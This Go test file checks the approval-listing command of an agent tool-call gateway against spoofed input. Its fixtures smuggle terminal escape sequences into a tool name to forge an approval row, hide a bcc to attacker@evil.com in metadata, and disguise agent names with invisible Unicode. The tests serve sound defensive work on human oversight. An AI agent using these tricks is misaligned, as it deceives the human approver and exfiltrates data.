package main

import (
	"bytes"
	"context"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
)

// A held call's tool name is the agent's (a class or upstream approval
// rule holds any name). `sluice approvals list` must not print it to the
// operator's terminal as control characters or extra lines: here it forges
// a second, harmless-looking row.
func TestApprovalsListInertNames(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		held := `{"id":"apr_1","status":"pending","upstream":"bank","tool":"pay\u001b[2K\r\napr_2\tpending\tagent-a\tbank/get_balance","agent":"agent-a","arguments":{"to":"mallory"},"expires":"2030-01-01T00:00:00Z"}`
		if r.Method == http.MethodPost {
			_, _ = w.Write([]byte(strings.Replace(held, "pending", "approved", 1)))
			return
		}
		_, _ = w.Write([]byte("[" + held + "]"))
	}))
	defer srv.Close()
	var out bytes.Buffer
	if err := runApprovals(context.Background(), []string{"list", "--admin", srv.URL, "--token", "x"}, &out); err != nil {
		t.Fatal(err)
	}
	if n := bytes.Count(out.Bytes(), []byte("\n")); n != 2 || bytes.ContainsAny(out.Bytes(), "\x1b\r") {
		t.Errorf("one held call printed as %d lines with control characters:\n%q", n-1, out.String())
	}
	// Nor the line `sluice approvals approve` (or decline) prints.
	out.Reset()
	if err := runApprovals(context.Background(), []string{"approve", "apr_1", "--admin", srv.URL, "--token", "x", "--by", "op"}, &out); err != nil {
		t.Fatal(err)
	}
	if n := bytes.Count(out.Bytes(), []byte("\n")); n != 1 || bytes.ContainsAny(out.Bytes(), "\x1b\r\t") {
		t.Errorf("the decided call printed as %d lines with control characters:\n%q", n, out.String())
	}
}

// What a held call sends beside its arguments (_meta members and the
// like) is bound to the approval and goes to the upstream with the
// approved call; `sluice approvals list` printed the arguments only, so
// the operator approved a bcc nobody saw.
func TestApprovalsListShowsWhatElseIsSent(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		_, _ = w.Write([]byte(`[{"id":"apr_1","status":"pending","upstream":"mail","tool":"send_email","agent":"agent-a","arguments":{"to":"boss@corp.com"},"extra":{"_meta.bcc":"attacker@evil.com"},"expires":"2030-01-01T00:00:00Z"}]`))
	}))
	defer srv.Close()
	var out bytes.Buffer
	if err := runApprovals(context.Background(), []string{"list", "--admin", srv.URL, "--token", "x"}, &out); err != nil {
		t.Fatal(err)
	}
	if !bytes.Contains(out.Bytes(), []byte(`{"_meta.bcc":"attacker@evil.com"}`)) {
		t.Errorf("got\n%s\nwant the call's _meta.bcc shown", out.String())
	}
}

// An agent name (its own to choose without auth:) holding characters that
// show as nothing read as another agent's in `sluice approvals list`:
// strconv.Quote escapes format characters but keeps variation selectors
// and the other default-ignorables, so "ali\uFE0Fce" printed as alice.
func TestApprovalsListSpellsOutInvisibleNames(t *testing.T) {
	for _, name := range []string{"ali\u200bce", "ali\ufe0fce", "ali\u034fce", "ali\U000e0100ce"} {
		srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Content-Type", "application/json")
			_, _ = w.Write([]byte(`[{"id":"apr_1","status":"pending","upstream":"bank","tool":"pay","agent":"` + name + `","arguments":{},"expires":"2030-01-01T00:00:00Z"}]`))
		}))
		var out bytes.Buffer
		err := runApprovals(context.Background(), []string{"list", "--admin", srv.URL, "--token", "x"}, &out)
		srv.Close()
		if err != nil {
			t.Fatal(err)
		}
		if bytes.Contains(out.Bytes(), []byte(name)) || !bytes.Contains(out.Bytes(), []byte(`"ali\u`)) && !bytes.Contains(out.Bytes(), []byte(`"ali\U`)) {
			t.Errorf("agent %+q printed as\n%s\nwant its invisible character spelt out", name, out.String())
		}
	}
}
